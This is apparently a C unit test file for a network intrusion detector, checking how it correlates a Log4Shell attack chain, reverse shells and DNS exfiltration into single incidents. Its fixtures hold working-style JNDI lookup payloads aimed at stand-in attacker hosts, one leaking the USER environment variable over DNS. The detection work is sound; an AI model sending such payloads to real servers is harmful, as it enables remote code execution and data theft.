/* tests/unit/detect/test_detect.c - the shell watch, notice suppression, and the detector's
 * correlation: attempt -> callback -> referral -> download -> shell as one incident. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "detect/detect.h"
#include "detect/jndi.h"
#include "detect/notice.h"
#include "detect/shell_watch.h"
#include "log/log_set.h"

static void feed(struct shell_watch *w, int side, const char *text)
{
    shell_watch_feed(w, side, (const uint8_t *)text, strlen(text));
}

static void test_shell_reverse(void **unused)
{
    struct shell_watch w;

    memset(&w, 0, sizeof(w));
    feed(&w, 1, "ls -l\n");
    assert_int_equal(shell_watch_commander(&w), -1);   /* one command and no answer yet */
    feed(&w, 0, "total 4\n-rw-r--r-- 1 root root 12 Jan 1 x\n");
    feed(&w, 1, "whoami\n");
    feed(&w, 0, "root\n");
    assert_int_equal(shell_watch_commander(&w), 1);
}

static void test_shell_not_protocols(void **unused)
{
    struct shell_watch w;
    uint8_t bin[256];

    memset(&w, 0, sizeof(w));
    feed(&w, 1, "220 mail.example.com ESMTP\r\n250 ok\r\n");
    feed(&w, 0, "EHLO client\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n");
    assert_int_equal(shell_watch_commander(&w), -1);
    memset(&w, 0, sizeof(w));
    for (int i = 0; i < 256; i++)
        bin[i] = (uint8_t)(i * 37);
    shell_watch_feed(&w, 0, bin, sizeof(bin));
    shell_watch_feed(&w, 1, bin, sizeof(bin));
    assert_int_equal(shell_watch_commander(&w), -1);
    assert_true(shell_watch_is_command("whoami", 6));
    assert_true(shell_watch_is_command("/bin/sh", 7));
    assert_false(shell_watch_is_command("EHLO", 4));
}

static int count_rows(const char *dir, const char *log)
{
    char path[512], line[8192];
    FILE *f;
    int n = 0;

    snprintf(path, sizeof(path), "%s/%s.log", dir, log);
    f = fopen(path, "r");
    if (f == NULL)
        return 0;
    while (fgets(line, sizeof(line), f) != NULL)
        n += line[0] != '#';
    fclose(f);
    return n;
}

static void test_notice_suppression(void **unused)
{
    char dir[] = "/tmp/pw-notice-XXXXXX", err[256];
    struct log_set_config lc = {.format = LOG_FORMAT_TSV};
    struct log_set *logs;
    struct notices *n;
    struct notice x;

    assert_non_null(mkdtemp(dir));
    lc.dir = dir;
    logs = log_set_create(&lc, err, sizeof(err));
    assert_non_null(logs);
    n = notices_create(logs, 3600 * PW_SEC);
    memset(&x, 0, sizeof(x));
    x.type = NOTICE_LOG4J_CALLBACK;
    x.identifier = "10.0.0.1192.0.2.1443/tcp";
    x.identifier_len = strlen(x.identifier);
    x.ts = 1000 * PW_SEC;
    assert_true(notices_raise(n, &x));
    x.ts += 3599 * PW_SEC;
    assert_false(notices_raise(n, &x));          /* same identifier inside the interval */
    x.type = NOTICE_REVERSE_SHELL;
    assert_true(notices_raise(n, &x));           /* another note: its own key */
    x.type = NOTICE_LOG4J_CALLBACK;
    x.ts += 2 * PW_SEC;
    assert_true(notices_raise(n, &x));           /* the interval has passed */
    assert_int_equal(notices_count(n, NOTICE_LOG4J_CALLBACK), 2);
    assert_int_equal(notices_suppressed(n), 1);
    notices_free(n);
    log_set_free(logs);
    assert_int_equal(count_rows(dir, "notice"), 3);
}

static struct detect_conn conn(const char *uid, const char *o, uint16_t op, const char *r, uint16_t rp,
                               const char *service, struct detect_flow *df)
{
    struct detect_conn c;

    memset(&c, 0, sizeof(c));
    c.uid = uid;
    assert_int_equal(addr_parse(&c.id.orig_h, o), 0);
    assert_int_equal(addr_parse(&c.id.resp_h, r), 0);
    c.id.orig_p = op;
    c.id.resp_p = rp;
    c.proto = "tcp";
    c.service = service;
    c.df = df;
    return c;
}

static void test_chain_one_incident(void **unused)
{
    char dir[] = "/tmp/pw-detect-XXXXXX", err[256];
    struct log_set_config lc = {.format = LOG_FORMAT_TSV};
    struct detect_config dc = {.suppress_for = 3600 * PW_SEC, .seeded = true, .seed = 1};
    struct detect_flow f1 = {0}, f2 = {0}, f3 = {0}, f4 = {0}, f5 = {0}, f6 = {0};
    struct jndi_hit hit;
    struct lookup_attempt a;
    struct java_referral ref;
    struct java_download dl;
    struct log_set *logs;
    struct detect *d;
    struct detect_conn c;
    const struct notices *n;
    pw_time t = 1000 * PW_SEC;

    assert_non_null(mkdtemp(dir));
    lc.dir = dir;
    logs = log_set_create(&lc, err, sizeof(err));
    d = detect_create(&dc, logs);
    assert_non_null(d);
    n = detect_notices(d);

    memset(&hit, 0, sizeof(hit));
    strcpy(hit.scheme, "ldap");
    strcpy(hit.host, "192.0.2.66");
    hit.port = 443;
    strcpy(hit.normalized, "${jndi:ldap://192.0.2.66:443/x}");
    memset(&a, 0, sizeof(a));
    a.where = ATTEMPT_URI;
    a.proto = "http";
    a.value = (const uint8_t *)"/?q=${jndi:ldap://192.0.2.66:443/x}";
    a.value_len = strlen((const char *)a.value);
    a.hit = &hit;
    c = conn("C1", "198.51.100.7", 40000, "10.0.0.5", 8080, "http", &f1);
    assert_true(detect_lookup_attempt(d, &c, t, true, &a));
    assert_int_equal(notices_count(n, NOTICE_LOG4J_ATTEMPT_URI), 1);

    /* A flow to another host is no callback; the named one is, on any port, once it speaks LDAP. */
    c = conn("C2", "10.0.0.5", 40001, "192.0.2.99", 443, "ldap_tcp", &f2);
    detect_flow_service(d, &c, t + PW_MSEC);
    c = conn("C3", "10.0.0.5", 40002, "192.0.2.66", 443, "ldap_tcp", &f3);
    detect_flow_service(d, &c, t + 15 * PW_MSEC);
    assert_int_equal(notices_count(n, NOTICE_LOG4J_CALLBACK), 1);
    assert_int_equal(f3.incident, f1.incident);
    assert_int_equal(f2.incident, 0);
    detect_flow_end(d, &c, t + PW_SEC);           /* decided once per flow */
    assert_int_equal(notices_count(n, NOTICE_LOG4J_CALLBACK), 1);

    memset(&ref, 0, sizeof(ref));
    ref.proto = "ldap";
    ref.raw = (const uint8_t *)"0\x81\x90javaClassName";
    ref.raw_len = 16;
    ref.class_name = "foo";
    ref.codebase = "http://192.0.2.67:443/";
    ref.factory = "Exploit";
    detect_java_referral(d, &c, t + 20 * PW_MSEC, &ref);
    assert_int_equal(notices_count(n, NOTICE_LOG4J_LDAP_JAVA), 1);

    c = conn("C4", "10.0.0.5", 40003, "192.0.2.67", 443, "http", &f4);
    detect_flow_service(d, &c, t + 30 * PW_MSEC);
    assert_int_equal(f4.incident, f1.incident);   /* the codebase host joins the incident */
    memset(&dl, 0, sizeof(dl));
    dl.user_agent = "Java/17.0.15";
    dl.user_agent_len = strlen(dl.user_agent);
    dl.content_type = "application/java-vm";
    dl.content_type_len = strlen(dl.content_type);
    dl.method = "GET";
    dl.method_len = 3;
    dl.mime = "application/x-java-applet";
    dl.trans_depth = 1;
    assert_true(detect_java_download(d, &c, t + 40 * PW_MSEC, &dl));
    assert_int_equal(notices_count(n, NOTICE_LOG4J_JAVA_CLASS_DOWNLOAD), 1);

    /* A shell from the victim to anywhere afterwards is part of it; elsewhere, only on a port
     * where another protocol belongs. */
    c = conn("C5", "10.0.0.5", 40004, "192.0.2.68", 9001, "", &f5);
    detect_shell(d, &c, t + 50 * PW_MSEC, true);
    assert_int_equal(f5.incident, f1.incident);
    c = conn("C6", "10.0.0.77", 40005, "192.0.2.68", 9001, "", &f6);
    detect_shell(d, &c, t + 60 * PW_MSEC, true);
    assert_int_equal(notices_count(n, NOTICE_REVERSE_SHELL), 1);
    c = conn("C7", "10.0.0.77", 40006, "192.0.2.68", 443, "", &f6);
    detect_shell(d, &c, t + 70 * PW_MSEC, true);
    assert_int_equal(notices_count(n, NOTICE_REVERSE_SHELL), 2);
    assert_int_equal(f6.incident, 0);

    detect_free(d);
    log_set_free(logs);
    assert_int_equal(count_rows(dir, "notice"), 6);
}

static void test_dns_callback_and_exfil(void **unused)
{
    char dir[] = "/tmp/pw-detect-XXXXXX", err[256];
    struct log_set_config lc = {.format = LOG_FORMAT_TSV};
    struct detect_config dc = {.suppress_for = 3600 * PW_SEC};
    struct detect_flow f1 = {0}, f2 = {0}, f3 = {0};
    struct jndi_hit hit;
    struct lookup_attempt a;
    struct log_set *logs;
    struct detect *d;
    struct detect_conn c;
    const struct notices *n;
    pw_time t = 5000 * PW_SEC;

    assert_non_null(mkdtemp(dir));
    lc.dir = dir;
    logs = log_set_create(&lc, err, sizeof(err));
    d = detect_create(&dc, logs);
    n = detect_notices(d);
    memset(&hit, 0, sizeof(hit));
    strcpy(hit.scheme, "ldap");
    strcpy(hit.host, "cb.attacker.test");
    memset(&a, 0, sizeof(a));
    a.where = ATTEMPT_HEADER;
    a.name = "User-Agent";
    a.name_len = 10;
    a.value = (const uint8_t *)"${jndi:ldap://${env:USER}.cb.attacker.test/a}";
    a.value_len = strlen((const char *)a.value);
    a.hit = &hit;
    c = conn("C1", "198.51.100.7", 40000, "10.0.0.5", 8080, "http", &f1);
    assert_true(detect_lookup_attempt(d, &c, t, true, &a));
    c = conn("C2", "10.0.0.5", 5353, "10.0.0.2", 53, "dns", &f2);
    detect_dns_query(d, &c, t + PW_MSEC, "tomcat.cb.attacker.test", 23);
    assert_int_equal(notices_count(n, NOTICE_LOG4J_CALLBACK), 1);
    assert_int_equal(notices_count(n, NOTICE_DNS_EXFIL), 1);
    detect_dns_answer(d, &c, t + 2 * PW_MSEC, "cb.attacker.test", 16, "203.0.113.9", 11);
    c = conn("C3", "10.0.0.5", 40001, "203.0.113.9", 1389, "ldap_tcp", &f3);
    detect_flow_service(d, &c, t + 3 * PW_MSEC);
    assert_int_equal(notices_count(n, NOTICE_LOG4J_CALLBACK), 2);
    assert_int_equal(f3.incident, f1.incident);
    /* An unrelated long random label is data too; a long plain name is not. */
    c = conn("C4", "10.0.0.9", 5353, "10.0.0.2", 53, "dns", NULL);
    detect_dns_query(d, &c, t, "www.averyveryverylongbutperfectlyordinaryhostnameexample.com", 59);
    assert_int_equal(notices_count(n, NOTICE_DNS_EXFIL), 1);
    detect_dns_query(d, &c, t, "mzxw6ytboi3tanbqgq3wkzlhmztgm5lhnzuwq2lunfwxa3tpobzhg5dvozxxqylfnzsgk4q.x.test", 76);
    assert_int_equal(notices_count(n, NOTICE_DNS_EXFIL), 2);
    detect_free(d);
    log_set_free(logs);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_shell_reverse),
        cmocka_unit_test(test_shell_not_protocols),
        cmocka_unit_test(test_notice_suppression),
        cmocka_unit_test(test_chain_one_incident),
        cmocka_unit_test(test_dns_callback_and_exfil),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
